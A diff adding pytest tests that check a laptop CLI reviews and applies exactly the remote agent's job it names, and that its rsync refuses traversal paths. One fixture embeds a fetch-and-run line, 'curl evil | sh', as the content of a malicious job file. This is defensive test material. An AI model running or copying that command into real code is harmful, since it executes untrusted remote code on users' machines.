@@ -302,3 +302,101 @@ def test_diff_json_carries_the_jobs_egress_report_for_the_review(world):
     assert json.loads(lap.run("diff", JOB, "--json").out)["network"] == network
     box.add_job(JOB2, new_file(b"b.txt"), result={"network": "not a report"})
     assert "network" not in json.loads(lap.run("diff", JOB2, "--json").out)
+
+
+# A job is resolved once to its full id, and the diff kept under that id is the one reviewed,
+# shown beside the editor's sides and applied: a box that names another job, or serves other
+# bytes to a prefix, gets nothing of it applied unseen.
+
+
+def record(job: str) -> bytes:
+    return json.dumps({"id": job, "status": "done", "project": "laptop", "prompt": "x", "created": 1.0}).encode()
+
+
+def test_the_editors_sides_are_of_the_job_reviewed_whatever_id_the_box_answers(world):
+    """VS Code's diff editor reads each side with `diff JOB --file P --side new --json`, and
+    Apply writes JOB's kept diff: a box answering JOB's record with an earlier, harmless job's
+    id must not make the editor show that job's result."""
+    lap, box = world
+    box.add_job("aaaa1111", new_file(b"src/new.py", b"print('a friendly greeting')\n"), ask=True)
+    box.add_job("bbbb2222", new_file(b"src/new.py", b"import os; os.system('curl evil | sh')\n"), ask=True)
+    for prompt in ("first", "second"):
+        lap.run("ask", prompt, "--no-apply", "--json", check=0)
+    reviewed = json.loads(lap.run("diff", "bbbb2222", "--json").out)
+    box.lie("GET /v1/jobs/bbbb2222", answer(record("aaaa1111")))
+    side = json.loads(lap.run("diff", "bbbb2222", "--file=src/new.py", "--side", "new", "--json").out)
+    assert side["job"] == "bbbb2222" and "curl evil" in side["text"], side
+    del box.lies["GET /v1/jobs/bbbb2222"]
+    lap.run("apply", "bbbb2222", "--yes", "--sha256", reviewed["sha256"], check=0)
+    assert (lap.root / "src/new.py").read_bytes() == side["text"].encode()
+
+
+def test_a_diff_reviewed_by_a_prefix_is_the_one_applied(world):
+    """`diff abc` then `apply abc --yes`: the prefix is resolved by the jobs this laptop knows,
+    never by the box again, so the bytes applied are the bytes shown, whatever the box serves
+    to the prefix's own route."""
+    lap, box = world
+    box.add_job("abc12345", new_file(b"notes.txt", b"the real change\n"), ask=True)
+    lap.run("ask", "x", "--no-apply", check=0)
+    box.lie("GET /v1/jobs/abc/diff", answer(new_file(b"notes.txt", b"another change\n"), kind="application/octet-stream"))
+    shown = lap.run("diff", "abc").out
+    assert "+the real change" in shown and "another" not in shown
+    lap.run("apply", "abc", "--yes", check=0)
+    assert (lap.root / "notes.txt").read_bytes() == b"the real change\n"
+    assert not [r for r in box.requests if r.startswith("GET /v1/jobs/abc/") or r == "GET /v1/jobs/abc"]
+
+
+def test_a_job_asked_elsewhere_is_resolved_once_then_kept_by_its_full_id(world):
+    """A job this laptop did not ask: the box resolves the prefix once (`diff`), the diff is
+    kept under the full id, and a later `apply` by the same prefix goes by that id; a box that
+    then names another job for it is refused, nothing written."""
+    lap, box = world
+    box.add_job("abc12345", new_file(b"notes.txt", b"reviewed\n"))
+    assert "+reviewed" in lap.run("diff", "abc").out
+    box.add_job("abc12345ff", new_file(b"notes.txt", b"never shown\n"))
+    box.lie("GET /v1/jobs/abc12345", answer(record("abc12345ff")))
+    box.lie("GET /v1/jobs/abc", answer(record("abc12345ff")))
+    clean_failure(lap.run("apply", "abc", "--yes"), "asked for job abc12345, the agent answered with job abc12345ff")
+    assert not (lap.root / "notes.txt").exists()
+
+
+@pytest.mark.parametrize("command", [("apply", "--yes"), ("wait", "--yes")])
+def test_a_job_named_in_full_is_that_job_whatever_id_the_box_answers(world, command):
+    """The id the ask printed, given to `apply` or `wait`: a box answering the record of a job
+    it never named before (the id it was asked for, and more digits) is refused; nothing written."""
+    lap, box = world
+    box.add_job("def45678", new_file(b"notes.txt", b"reviewed\n"), ask=True)
+    lap.run("ask", "x", "--no-apply", check=0)
+    assert "+reviewed" in lap.run("diff", "def45678").out
+    box.add_job("def45678ff", new_file(b"notes.txt", b"never shown\n"))
+    box.lie("GET /v1/jobs/def45678", answer(record("def45678ff")))
+    clean_failure(lap.run(command[0], "def45678", command[1]),
+                  "asked for job def45678, the agent answered with job def45678ff", status=3)
+    assert not (lap.root / "notes.txt").exists()
+
+
+def test_a_prefix_of_two_jobs_here_is_a_usage_error(world):
+    lap, box = world
+    for job in ("abc11111", "abc22222"):
+        box.add_job(job, new_file(b"notes.txt"), ask=True)
+        lap.run("ask", "x", "--no-apply", check=0)
+    clean_failure(lap.run("diff", "abc"), "abc is the start of 2 jobs here: abc11111, abc22222", status=2)
+
+
+@pytest.mark.parametrize("where", ["sibling", "relative", "inside", "dotdot"])
+def test_the_laptops_rsync_writes_only_where_the_agent_keeps_mirrors(world, tmp_path, where):
+    """Without `ssh` the laptop's own rsync writes into the folder the agent names: an agent of
+    another account, or a lying one, naming another folder of the user's (a sibling checkout,
+    one reached by "..", the project itself) gets a refusal and nothing is sent."""
+    lap, box = world
+    sibling = make_repo(tmp_path / "users/alice/mirror/laptop-old", {"README.md": b"# my other work\n"})
+    mirror = {"sibling": str(sibling), "relative": "users/alice/mirror/laptop",
+              "inside": str(lap.root / "users/alice/mirror/laptop"),
+              "dotdot": str(box.state / "users/alice/mirror/laptop/../../../../laptop-old/users/alice/mirror/laptop")}[where]
+    box.lie("GET /v1/me", answer(json.dumps({"user": "alice", "mirror": mirror}).encode()))
+    clean_failure(lap.run("sync"), "as the folder to sync into")
+    assert (sibling / "README.md").read_bytes() == b"# my other work\n" and not (sibling / "src").exists()
+    assert not (lap.root / "users").exists() and not (tmp_path / "laptop-old").exists()
+    del box.lies["GET /v1/me"]
+    lap.run("sync", check=0)  # where the agent keeps it: sent
+    assert (box.mirror / "src/app.py").read_bytes() == b"print('hello')\n"
